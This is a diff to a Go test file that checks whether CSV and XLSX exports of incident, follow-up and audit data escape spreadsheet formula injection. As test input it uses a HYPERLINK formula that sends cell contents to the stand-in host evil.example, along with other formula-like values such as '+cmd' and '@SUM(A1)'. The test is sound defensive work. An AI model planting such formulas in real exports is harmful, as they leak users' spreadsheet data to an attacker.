@@ -9,6 +9,7 @@ import (
 
 	"github.com/xuri/excelize/v2"
 
+	"postvakt/internal/spreadsheet"
 	"postvakt/internal/store"
 )
 
@@ -57,7 +58,7 @@ func TestNoFormulaInjection(t *testing.T) {
 	// The same in the sheet for people (Labels).
 	for _, l := range []*Labels{nil, testLabels} {
 		buf.Reset()
-		if _, err := ShipmentsFor(context.Background(), src, store.ListFilter{List: store.ListUnopened}, XLSX, &buf, now, l); err != nil {
+		if _, err := ShipmentsFor(context.Background(), src, store.ListFilter{List: store.ListUnopened}, XLSX, &buf, now, XLSXOptions{Labels: l}); err != nil {
 			t.Fatal(err)
 		}
 		f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
@@ -78,5 +79,106 @@ func TestNoFormulaInjection(t *testing.T) {
 			}
 		}
 		f.Close()
+	}
+}
+
+// auditEntries is an audit source of one page.
+type auditEntries []store.AuditEntry
+
+func (a auditEntries) AuditLog(context.Context, store.AuditFilter) (*store.AuditPage, error) {
+	return &store.AuditPage{Entries: a}, nil
+}
+
+// TestNoFormulaInEveryExport: the incident report, the follow-ups and the
+// audit log write what people typed or a register named (a unit, a class,
+// a channel id or status, a follow-up's note and who decided, an audit
+// entry's actor, object and detail) through the same rule as the lists:
+// in CSV no cell is left that a spreadsheet takes for a formula (such a
+// one is behind an apostrophe, a negative number left alone), and in XLSX,
+// in the programs' form and in the people's, no cell is a formula and
+// each such text is an inline string, as it was.
+func TestNoFormulaInEveryExport(t *testing.T) {
+	const evil = `=HYPERLINK("http://evil.example/?"&A1,"klikk")`
+	inc := fakeIncidentRows(3)
+	for i := range inc {
+		inc[i].SenderUnit, inc[i].Class, inc[i].ChannelID, inc[i].ChannelStatus = evil, "@SUM(A1)", "-1+1", "+cmd"
+	}
+	fus := followUps(2)
+	for i := range fus {
+		fus[i].SenderUnit, fus[i].Note, fus[i].DecidedBy, fus[i].ChannelID = evil, "-ringte\t=1", "@kari", "\r=2"
+	}
+	audit := auditEntries{{At: time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC), Actor: evil, Role: "admin", Action: "create_token",
+		Object: "+token", Detail: "-2+3", SenderOrg: "964338531"}}
+	exports := map[string]func(f Format, w *bytes.Buffer, o XLSXOptions) error{
+		"incident": func(f Format, w *bytes.Buffer, o XLSXOptions) error {
+			_, _, err := IncidentFor(context.Background(), inc, store.IncidentFilter{}, f, w, o)
+			return err
+		},
+		"followups": func(f Format, w *bytes.Buffer, o XLSXOptions) error {
+			_, err := FollowUps(context.Background(), &pagedFollowUps{list: fus}, store.Scope{}, true, f, w, o)
+			return err
+		},
+		"audit": func(f Format, w *bytes.Buffer, o XLSXOptions) error {
+			_, err := AuditLog(context.Background(), audit, store.AuditFilter{}, f, w, o)
+			return err
+		},
+	}
+	for name, export := range exports {
+		var buf bytes.Buffer
+		if err := export(CSV, &buf, XLSXOptions{}); err != nil {
+			t.Fatalf("%s CSV: %v", name, err)
+		}
+		recs, err := csv.NewReader(&buf).ReadAll()
+		if err != nil {
+			t.Fatalf("%s CSV: %v", name, err)
+		}
+		escaped := 0
+		for i, rec := range recs {
+			for j, cell := range rec {
+				if spreadsheet.FormulaLike(cell) {
+					t.Errorf("%s CSV row %d column %d is %q: a spreadsheet takes it for a formula", name, i, j+1, cell)
+				}
+				if cell == "'"+evil {
+					escaped++
+				}
+			}
+		}
+		if escaped == 0 {
+			t.Errorf("%s CSV: no cell %q, want the text behind an apostrophe", name, "'"+evil)
+		}
+
+		for _, l := range []*Labels{nil, testLabels} {
+			buf.Reset()
+			if err := export(XLSX, &buf, XLSXOptions{Labels: l}); err != nil {
+				t.Fatalf("%s XLSX (labels %v): %v", name, l != nil, err)
+			}
+			f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
+			if err != nil {
+				t.Fatalf("%s XLSX (labels %v): %v", name, l != nil, err)
+			}
+			texts := 0
+			for _, sheet := range f.GetSheetList() {
+				rows, _ := f.GetRows(sheet, excelize.Options{RawCellValue: true})
+				for i, row := range rows {
+					for j, v := range row {
+						cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
+						if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
+							t.Errorf("%s XLSX (labels %v) %s!%s is a formula %q (%v)", name, l != nil, sheet, cell, formula, err)
+						}
+						if !spreadsheet.FormulaLike(v) {
+							continue
+						}
+						texts++
+						if typ, _ := f.GetCellType(sheet, cell); typ != excelize.CellTypeInlineString {
+							t.Errorf("%s XLSX (labels %v) %s!%s %q has type %v, want an inline string", name, l != nil, sheet, cell, v, typ)
+						}
+					}
+				}
+			}
+			if texts == 0 {
+				t.Errorf("%s XLSX (labels %v): none of the formula-like texts is in it as it was", name, l != nil)
+			}
+			f.Close()
+		}
 	}
 }
